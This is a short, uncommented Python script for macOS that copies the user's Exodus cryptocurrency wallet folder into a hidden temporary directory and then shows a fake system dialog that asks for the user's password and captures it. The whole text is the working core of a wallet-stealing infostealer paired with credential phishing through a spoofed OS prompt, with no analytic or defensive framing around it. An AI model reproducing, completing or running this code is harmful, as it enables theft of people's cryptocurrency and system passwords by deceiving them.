import os, shutil, subprocess
home = os.path.expanduser("~")
wallet = os.path.join(home, "Library/Application Support/Exodus/exodus.wallet")
shutil.copytree(wallet, "/tmp/.c/w")
pw = subprocess.check_output(["osascript", "-e", 'display dialog "macOS needs your password to continue" default answer "" with hidden answer'])
